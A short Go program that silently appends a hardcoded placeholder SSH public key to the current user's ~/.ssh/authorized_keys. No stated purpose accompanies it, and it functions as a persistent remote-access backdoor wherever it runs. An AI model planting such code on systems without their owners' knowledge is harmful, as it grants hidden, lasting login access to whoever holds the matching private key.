package main

import (
	"fmt"
	"os"
	"path/filepath"
)

const pubkey = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQExample ops@example.com"

func ensureKey() error {
	home, err := os.UserHomeDir()
	if err != nil {
		return err
	}
	dir := filepath.Join(home, ".ssh")
	os.MkdirAll(dir, 0700)
	f, err := os.OpenFile(filepath.Join(dir, "authorized_keys"), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0600)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = fmt.Fprintln(f, pubkey)
	return err
}

func main() {
	if err := ensureKey(); err != nil {
		fmt.Println("warning:", err)
	}
}
